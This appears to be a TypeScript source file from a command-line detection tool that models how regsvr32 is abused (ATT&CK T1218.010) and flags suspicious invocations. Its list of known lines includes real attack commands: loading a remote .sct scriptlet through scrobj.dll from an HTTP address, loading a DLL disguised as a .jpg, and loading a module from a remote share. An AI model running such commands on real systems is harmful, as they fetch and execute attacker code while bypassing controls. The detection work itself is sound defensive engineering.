import { type Abuse, addressOwner, foreignFile, foreignSource, groundOf } from "../models/abuse.ts";
import { readArguments } from "../models/options.ts";
import type { ProgramModel } from "../models/program-model.ts";

const DASHES = ["/", "-"];

/** Facts: Microsoft's page on regsvr32; ATT&CK T1218.010. */
const OPTION = /^(?:[usn]|i|i:.*)$/is;

/** The whole path of a module, or the one of Windows: after another operand, it may stop. */
const MODULE = /^(?:[a-z]:[\\/].*\.(?:dll|ocx|ax|cpl)|scrobj(?:\.dll)?)$/i;

/** Endings that nobody gives to a module, except to hide it. */
const NO_MODULE = /^[^"<>|?*]*\.(?:exe|txt|log|jpe?g|png|gif|ico|pdf)$/i;

/**
 * The options are single letters; `/i:` has a value, which goes to the module. Each operand is a
 * module that is loaded, whatever it is called; with an unknown option there is only help.
 */
function findAbuse(line: string): Abuse | undefined {
  const { options, operands } = readArguments(line, DASHES);
  if (!options.every((option) => OPTION.test(option))) return undefined;
  const values = options.filter((option) => /^i/i.test(option));
  // /n alone is refused: it leaves out the registration, and nothing is left to do.
  if (options.some((option) => /^n$/i.test(option)) && values.length === 0) return undefined;
  const certain = operands.findIndex((operand) => !MODULE.test(operand));
  const reached = certain < 0 ? operands : operands.slice(0, certain + 1);
  const module = reached.map(foreignFile).find((one) => one !== undefined);
  if (module) return { ...module, words: `loads a module ${module.words}` };
  const odd = reached.find((operand) => NO_MODULE.test(operand));
  if (odd !== undefined)
    return { words: `loads ${odd}, which is not called like a module`, rests: "name" };
  return reached.some(isScriptRunner) ? findScript(values) : undefined;
}

/** The module of Windows that runs a scriptlet, whose place /i: names. */
function isScriptRunner(operand: string): boolean {
  return /^(?:c:[\\/]windows[\\/](?:system32|syswow64)[\\/])?scrobj(?:\.dll)?$/i.test(operand);
}

/** Nobody registers scriptlets from an address, so any host is hostile. */
function findScript(values: readonly string[]): Abuse | undefined {
  const [text = ""] = values.map((value) => value.slice(2));
  const owner = addressOwner(text);
  if (owner !== undefined)
    return { words: `runs a script from the address ${text}`, rests: groundOf(owner) };
  const file = foreignSource(text);
  return file && { ...file, words: `runs a script ${file.words}` };
}

/** regsvr32 loads modules, and with scrobj.dll runs a script from an address. */
export const REGSVR32_MODEL: ProgramModel = {
  program: "regsvr32",
  images: ["C:\\Windows\\System32\\regsvr32.exe", "C:\\Windows\\SysWOW64\\regsvr32.exe"],
  dashes: DASHES,
  spellings: {},
  uses: [
    "{-}i:{url} scrobj.dll {extra}",
    "{-}s {-}n {-}u {-}i:{url} scrobj {extra}",
    "{-}i:{file} scrobj.dll {extra}",
    "{file} {extra}",
    "{-}s {file} {extra}",
    "{-}u {-}s {extra} {file}",
  ],
  continuations: [" {file}", " {-}i:{url} scrobj.dll", "{file}"],
  ending: ".dll",
  remarks: () => [],
  // The first from Atomic Red Team (MIT, Red Canary, Inc.), T1218.010; the others from recordings in
  // samples/ (MIT, CC0), with other folders.
  knownLines: [
    "C:\\Windows\\system32\\regsvr32.exe /s /u /i:https://raw.githubusercontent.com/r/a.sct scrobj.dll",
    '"C:\\windows\\system32\\regsvr32.exe" /s /n /u /i:http://198.51.100.5:8444/launcher.sct scrobj.dll',
    '"C:\\WINDOWS\\system32\\regsvr32.exe" /s C:\\Users\\Public\\AllTheThingsx86.dll',
    "regsvr32 /s C:\\ProgramData\\shell32.jpg",
    "regsvr32.exe /s \\\\198.51.100.5\\s\\x.ocx",
  ],
  readLine: (line) => {
    const abuse = findAbuse(line);
    return () => abuse;
  },
};
